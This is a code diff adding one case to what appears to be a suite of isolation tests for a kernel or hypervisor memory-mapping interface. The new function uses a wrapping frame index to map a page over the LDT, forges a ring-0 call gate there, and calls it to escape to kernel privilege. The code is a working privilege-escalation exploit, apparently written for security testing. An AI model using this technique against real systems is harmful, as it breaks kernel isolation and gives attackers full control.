@@ -58,6 +58,22 @@ __attribute__((naked)) static void in_ring_0(void) {
             "lret");
 }
 
+/* Two entries of one batch: the first makes the translator remember the window's first table, the second names a leaf of
+ * that table below the window, by an index that wraps. */
+static void name_frame_around_the_end(void) {
+    uint32_t below = (MANAGER_WINDOW - MANAGER_LDT) / 4096, target = (uint32_t)in_ring_0, cr0;
+    const struct map_entry pages[2] = {{OWN_PAGE | MAP_PRESENT | MAP_WRITE, take_frame()},
+                                       {(OWN_PAGE + 0x1000) | MAP_PRESENT | MAP_WRITE, 0u - below}};
+    enum status status = space_map(MANAGER_SPACE, pages, 2);
+    if (status != STATUS_OK)
+        refused("status %u", status);
+    volatile uint64_t *ldt = (uint64_t *)(OWN_PAGE + 0x1000);
+    ldt[FORGED_GATE >> 3] =
+        (target & 0xFFFF) | CORE_CODE_RING << 16 | 0xECull << 40 | (uint64_t)(target >> 16) << 48;
+    __asm__ volatile("lcall %1, $0" : "=a"(cr0) : "i"(FORGED_GATE) : "memory", "cc");
+    escaped("ring 0 says that CR0 is %x", cr0);
+}
+
 /* A frame of one's own in the LDT's place: then a call gate into ring 0 is 8 bytes away. */
 static void map_over_ldt(void) {
     uint32_t frame = take_frame(), target = (uint32_t)in_ring_0, cr0;
@@ -131,6 +147,7 @@ static void call_past_table(void) {
 }
 
 const struct attack frame_attacks[] = {
+    {"name-frame-around-the-end", name_frame_around_the_end},
     {"name-frame-past-window", name_frame_past_window},
     {"read-foreign-image", read_foreign_image},
     {"write-image", write_image},
